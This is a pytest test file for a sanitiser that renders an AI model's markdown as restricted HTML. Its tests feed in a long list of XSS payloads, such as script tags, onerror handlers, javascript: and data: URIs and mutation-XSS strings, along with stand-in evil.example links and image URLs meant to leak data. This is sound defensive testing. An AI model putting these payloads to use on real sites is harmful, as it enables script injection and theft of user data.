"""Markdown from a model: a few harmless elements, and no way out."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evals.agent.injections import injections
from tracking_core.safety.markdown import MAX_CHARS, render

HOSTS = frozenset({"developers.example", "127.0.0.1:8000"})
_LINK = 'target="_blank" rel="noopener noreferrer nofollow"'
_ELEMENTS = {"p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "a"}


def html(text: str) -> str:
    return render(text, allowed_hosts=HOSTS).strip()


def require_harmless(shown: str) -> None:
    tags = re.findall(r"<(/?)([a-zA-Z][\w-]*)([^>]*)>", shown)
    assert {name for _, name, _ in tags} <= _ELEMENTS
    for _, name, attributes in tags:
        allowed = r"""( (href="https://developers\.example(/[^"]*)?"|start="\d+"|target="_blank"|rel="[a-z ]+"))*"""
        assert re.fullmatch(allowed, attributes), (name, attributes)
    assert "<" not in re.sub(r"</?[a-zA-Z][^>]*>", "", shown)


def test_what_a_playbook_needs_is_rendered() -> None:
    assert html("**Passo** *um*: `client_id`\n\n1. a\n2. b\n   - c\n\n> d\n\n```sh\nx < y\n```") == (
        "<p><strong>Passo</strong> <em>um</em>: <code>client_id</code></p>\n<ol>\n<li>a</li>\n<li>b\n<ul>\n<li>c</li>\n"
        "</ul>\n</li>\n</ol>\n<blockquote>\n<p>d</p>\n</blockquote>\n<pre><code>x &lt; y\n</code></pre>"
    )


def test_a_heading_is_a_paragraph() -> None:
    assert html("# Título\n\nOutro\n=====") == "<p>Título</p>\n<p>Outro</p>"


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("[x](https://developers.example/docs?a=1#b)", "https://developers.example/docs?a=1#b"),
        ("[x][1]\n\n[1]: https://DEVELOPERS.example/docs", "https://DEVELOPERS.example/docs"),
        ("[x](http://127.0.0.1:8000/setup)", "http://127.0.0.1:8000/setup"),
    ],
)
def test_a_link_to_a_known_host_opens_elsewhere_and_tells_it_nothing(text: str, address: str) -> None:
    assert html(text) == f'<p><a href="{address}" {_LINK}>x</a></p>'


@pytest.mark.parametrize(
    ("address", "shown"),
    [
        ("https://evil.example/?d=1", "https://evil.example/?d=1"),
        ("http://developers.example/", "http://developers.example/"),
        ("https://developers.example.evil.example/", "https://developers.example.evil.example/"),
        ("https://developers.example@evil.example/", "https://developers.example@evil.example/"),
        ("https://a:b@developers.example/", "https://a:b@developers.example/"),
        ("https://developers.example:8443/", "https://developers.example:8443/"),
        ("https://127.0.0.1/", "https://127.0.0.1/"),
        ("//evil.example/x", "//evil.example/x"),
        ("/api/v1/setup", "/api/v1/setup"),
        ("mailto:a@evil.example", "mailto:a@evil.example"),
        ("https://developers.example:99999/", "https://developers.example:99999/"),
    ],
)
def test_any_other_link_is_text_with_its_address(address: str, shown: str) -> None:
    assert html(f"[clique](<{address}>)") == f"<p>clique ({shown})</p>"


def test_an_address_in_angle_brackets_is_shown_once() -> None:
    assert html("<https://evil.example/?q=1>") == "<p>https://evil.example/?q=1</p>"


def test_an_image_is_not_fetched_nor_shown() -> None:
    assert html("![x](https://developers.example/p.png?d=secret)") == (
        f'<p>!<a href="https://developers.example/p.png?d=secret" {_LINK}>x</a></p>'
    )
    assert "<img" not in html(
        "![x][i] [![y](https://evil.example/y.png)](https://evil.example)\n\n[i]: //evil.example/i"
    )


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/?c=1'>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<a href='javascript:alert(1)' style='position:fixed'>x</a>",
        "<form action=https://evil.example><button>x</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#x6a;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "<javascript:alert(1)>",
        "[x](https://developers.example/\"onmouseover=\"alert(1))",
        "[x](https://developers.example/ \"t\" onclick=alert(1))",
        "[x](https://developers.example/ '\"><script>alert(1)</script>')",
        "[<img src=x onerror=alert(1)>](https://developers.example/)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x][r]\n\n[r]: <https://evil.example> \"><script>\"",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "``` \"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`",
        "> <details open ontoggle=alert(1)>",
        "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
        "\\<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<scr\u200bipt>alert(1)</script>",
        "[x](https://evil.example\u2215.developers.example/)",
        "[x](https:\\\\evil.example)",
        *(one.text for one in injections()),
    ],
)  # fmt: skip
def test_nothing_gets_out(text: str) -> None:
    require_harmless(html(text))


PARTS = [
    *("[", "](", ")", "<", ">", "!", "`", "*", '"', "'", "javascript:", "//", "&#", ";", "https://", " ", "\n"),
    *("developers.example", "evil.example", "@", "img", "src=", "x"),
]


@given(st.lists(st.sampled_from(PARTS), max_size=40))
def test_nothing_gets_out_however_it_is_put_together(parts: list[str]) -> None:
    require_harmless(html("".join(parts)))


def test_direction_characters_and_whatever_is_too_long_are_gone() -> None:
    assert html("a\u202eb&#x202e;c") == "<p>ab&amp;#x202e;c</p>"
    assert len(html("a" * (MAX_CHARS + 50))) == MAX_CHARS + len("<p></p>")
